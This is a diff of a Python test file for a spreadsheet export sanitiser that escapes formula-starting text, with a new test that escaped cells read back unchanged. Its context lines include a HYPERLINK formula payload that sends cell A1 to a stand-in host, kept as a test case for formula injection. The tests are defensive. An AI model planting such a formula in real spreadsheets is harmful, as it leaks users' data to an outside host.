@@ -9,7 +9,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from imagelake.spreadsheet import FORMULA_STARTS, cell
+from imagelake.spreadsheet import FORMULA_STARTS, cell, text_of_cell
 
 HOSTILE = [
     '=HYPERLINK("http://x/?"&A1;"click")',
@@ -43,3 +43,10 @@ def test_other_cells_stay_as_they_are(value: object) -> None:
 def test_no_text_begins_a_formula(text: str) -> None:
     """Whatever the text, and whatever blanks a spreadsheet strips from it."""
     assert not str(cell(text)).lstrip().startswith(FORMULA_STARTS)
+
+
+@given(st.text().filter(lambda text: not text.startswith("'")))
+@pytest.mark.parametrize("start", ["", *FORMULA_STARTS])
+def test_a_cell_is_read_back_as_its_text(start: str, text: str) -> None:
+    """What a person sends back from a spreadsheet names the same image."""
+    assert text_of_cell(cell(start + text)) == start + text
